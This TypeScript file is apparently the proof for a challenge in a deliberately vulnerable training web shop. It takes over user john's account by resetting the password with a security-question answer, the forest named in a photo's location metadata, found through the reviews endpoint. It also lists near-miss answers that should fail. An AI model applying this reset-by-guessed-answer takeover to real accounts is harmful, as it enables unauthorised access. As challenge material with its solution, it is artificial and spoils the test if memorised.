import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const SAPLING = 57

/** Resets the password of an account with the answer to its security question. */
const reset = (attacker: Attacker, name: string, answer: string, differences = {}) =>
  resetPassword(attacker, `${name}@${attacker.domain}`, answer, differences)

/** Returns the place of a position, named by a reviewer who has been there. */
async function placeAt(attacker: Attacker, position: string): Promise<string> {
  const { data } = (await attacker.get(`/rest/products/${SAPLING}/reviews`)).json() as { data: { message: string }[] }
  const told = data.find(({ message }) => message.includes(position))?.message
  return /of ([A-Z][\w ]{1,80}?) now/.exec(told ?? '')?.[1] ?? 'nowhere'
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const { data } = (await attacker.get('/rest/memories')).json() as { data: { caption: string }[] }
    if (!data.some(({ caption }) => /favourite place to walk/.test(caption)))
      throw new Error('The photo wall has no photo of a favourite place to walk.')
    // The metadata of the photo contain 36.9587 N, 84.3482 W (tooling/checks/picture-trails.test.ts).
    await reset(attacker, 'john', await placeAt(attacker, '37 degrees north, 84 west'))
  },
  nearMisses: {
    'the right place for somebody else': (attacker) => reset(attacker, 'emma', 'Daniel Boone National Forest'),
    'the position instead of the place': (attacker) => reset(attacker, 'john', '36.9587 N, 84.3482 W'),
    'another forest': (attacker) => reset(attacker, 'john', 'Cumberland National Forest'),
    'the place in small letters': (attacker) => reset(attacker, 'john', 'daniel boone national forest'),
    'two passwords that differ': (attacker) =>
      reset(attacker, 'john', 'Daniel Boone National Forest', { repeat: 'Unripe4never!' }),
  },
})
